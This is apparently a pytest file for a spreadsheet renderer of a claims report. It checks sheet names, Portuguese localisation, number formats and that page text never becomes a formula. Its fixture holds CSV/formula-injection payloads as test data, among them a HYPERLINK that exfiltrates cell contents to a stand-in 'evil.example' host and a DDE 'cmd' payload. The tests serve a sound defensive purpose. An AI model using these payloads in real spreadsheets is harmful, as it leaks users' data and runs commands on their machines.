"""report.xlsx: the claims board opens in a spreadsheet, one row per claim, and page text
never becomes a formula."""

from __future__ import annotations

import io
import zipfile
from datetime import datetime

import openpyxl
from openpyxl.worksheet.worksheet import Worksheet

from engine.contracts import ClaimStatus, Report
from engine.render.xlsx import render_xlsx
from tests.support.render_samples import build_claim, figures_report

HOSTILE_EXCERPT = '=HYPERLINK("https://evil.example/steal?d="&A1,"Click for the full figures")'


def with_claims(report: Report, *claims: object) -> Report:
    return Report.model_validate(
        {**report.model_dump(), "claims": [*report.model_dump()["claims"], *claims]}
    )


def hostile_report() -> Report:
    hostile = build_claim(
        "evil",
        statement="+cmd|' /C calc'!A0",
        excerpt=HOSTILE_EXCERPT,
        context="@SUM(1+1)\x0cpage two",
        status=ClaimStatus.rejected,
        reason="-2+3",
    )
    return with_claims(figures_report(), hostile.model_dump())


def workbook(report: Report) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(render_xlsx(report, {})))


def rows(sheet: Worksheet) -> list[tuple[object, ...]]:
    return list(sheet.iter_rows(values_only=True))


def test_the_workbook_opens_with_its_three_sheets_and_no_user_name() -> None:
    book = workbook(figures_report())
    assert book.sheetnames == ["Claims", "Figures", "Summary"]
    assert book.properties.creator == "Fonte"
    assert book.properties.lastModifiedBy is None


def test_a_portuguese_report_names_its_sheets_in_portuguese() -> None:
    book = workbook(figures_report(language="pt"))
    assert book.sheetnames == ["Afirmações", "Números", "Resumo"]
    assert rows(book["Afirmações"])[0][:4] == ("ID", "Citação", "Afirmação", "Trecho")


def test_one_row_per_claim_verified_and_rejected_under_a_frozen_header() -> None:
    report = hostile_report()
    sheet = workbook(report)["Claims"]
    board = rows(sheet)
    assert board[0][0] == "ID"
    assert [row[0] for row in board[1:]] == [c.id for c in report.claims]
    assert sheet.freeze_panes == "A2"
    by_id = {row[0]: row for row in board[1:]}
    assert by_id["r19"][1:12] == (
        1,
        "Revenue — February 2, 2019: $ 42,879",
        "Revenue $ 42,879 $ 42,151 $ 39,403",
        "Fiscal Years Ended February 2, 2019 February 3, 2018 January 28, 2017",
        "BESTBUY_2019_10K",
        "https://example.org/bestbuy-2019-10k.pdf",
        53,
        "verified",
        None,
        datetime(2025, 5, 1, 14, 3, 27),
        report.question,
    )
    assert by_id["evil"][1] is None  # cited by nothing
    assert by_id["evil"][8:10] == ("rejected", "-2+3")


def test_the_access_date_is_a_date_cell() -> None:
    sheet = workbook(figures_report())["Claims"]
    cell = sheet.cell(2, 11)
    assert cell.is_date
    assert cell.value == datetime(2025, 5, 1, 14, 3, 27)


def test_page_text_that_looks_like_a_formula_stays_text() -> None:
    data = render_xlsx(hostile_report(), {})
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Claims"]
    evil = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "evil")
    for cell, text in zip(
        (evil[2], evil[3], evil[4], evil[9]),
        ("+cmd|' /C calc'!A0", HOSTILE_EXCERPT, "@SUM(1+1) page two", "-2+3"),
        strict=True,
    ):
        assert cell.value == text
        assert cell.data_type == "s"
        assert cell.quotePrefix  # stays text even when a user edits the cell
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        assert all(b"<f>" not in package.read(name) for name in sheets)


def test_the_figures_sheet_cites_every_cell_and_shows_the_calculations() -> None:
    figures = rows(workbook(figures_report())["Figures"])
    assert figures[0][0] == "Revenue and operating income"
    assert figures[2][:7] == (
        "Revenue",
        42879,
        "r19",
        46298,
        "r23",
        0.08,
        "calculation k1: r19, r23",
    )
    calculations = {row[0]: row for row in figures if row[0] in ("k1", "k2")}
    assert calculations["k1"][5:] == (
        "+8.0%",
        7.97,
        "%",
        "($ 46,298 − $ 42,879) ÷ $ 42,879 = +8.0%",
        "Revenue 2019: $ 42,879 [r19]; Revenue 2023: $ 46,298 [r23]",
        "r19, r23",
    )


def test_the_summary_sheet_lists_the_answer_with_what_it_cites() -> None:
    report = figures_report()
    summary = rows(workbook(report)["Summary"])
    assert summary[0][:2] == ("Question", report.question)
    assert summary[2] == ("No.", "Sentence", "Claims", "Calculations")
    assert [row[1] for row in summary[3:]] == [s.text for s in report.summary]
    assert summary[3][2:] == ("r19, r23", "k1")


def figure_cells(sheet: Worksheet) -> dict[str, tuple[object, str]]:
    """Each figure cell of the figures sheet (every other column from B) by coordinate:
    its value and its number format."""
    return {
        cell.coordinate: (cell.value, cell.number_format)
        for row in sheet.iter_rows(min_col=2)
        for cell in row[::2]
        if cell.value is not None
    }


def test_figures_are_number_cells_shown_as_the_report_prints_them() -> None:
    cells = figure_cells(workbook(figures_report())["Figures"])
    assert cells["B3"] == (42879, '"$ "#,##0')
    assert cells["F3"] == (0.08, '"+"0.0%;"-"0.0%;0.0%')  # +8.0%, a calculated cell


def test_portuguese_figures_in_millions_and_losses_are_numbers_too() -> None:
    report = figures_report(language="pt")
    table = report.tables[0]
    texts = ["R$ 1.204,5 milhões", "(3.577)", "−0,4 p.p."]
    cells = [
        c.model_copy(update={"text": text}) if c is not None else None
        for c, text in zip(table.rows[0].cells, texts, strict=True)
    ]
    rows_ = [table.rows[0].model_copy(update={"cells": cells}), *table.rows[1:]]
    tables = [table.model_copy(update={"rows": rows_}), *report.tables[1:]]
    sheet = workbook(report.model_copy(update={"tables": tables}))["Números"]
    shown = [
        (sheet.cell(3, column).value, sheet.cell(3, column).number_format) for column in (2, 4, 6)
    ]
    assert shown[0] == (1204.5, '"R$ "#,##0.0" milhões"')
    assert shown[1] == (-3577, "#,##0;(#,##0)")
    assert shown[2] == (-0.4, '0.0" p.p."')


def test_a_cell_that_prints_no_single_number_stays_text() -> None:
    report = figures_report()
    table = report.tables[0]
    texts = ["n/d", "42,879 (2019: 39,000)", "+8.0%"]
    cells = [
        c.model_copy(update={"text": text}) if c is not None else None
        for c, text in zip(table.rows[0].cells, texts, strict=True)
    ]
    rows_ = [table.rows[0].model_copy(update={"cells": cells}), *table.rows[1:]]
    tables = [table.model_copy(update={"rows": rows_}), *report.tables[1:]]
    sheet = workbook(report.model_copy(update={"tables": tables}))["Figures"]
    assert (sheet["B3"].value, sheet["D3"].value) == ("n/d", "42,879 (2019: 39,000)")
    assert sheet["B3"].data_type == "s"
